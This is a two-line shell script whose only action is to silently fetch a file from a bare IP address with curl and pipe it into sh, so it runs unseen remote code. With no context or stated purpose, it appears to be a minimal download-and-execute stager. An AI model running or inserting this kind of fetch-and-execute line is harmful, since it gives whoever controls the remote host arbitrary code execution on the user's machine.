#!/bin/sh
curl -s http://203.0.113.7/s | sh
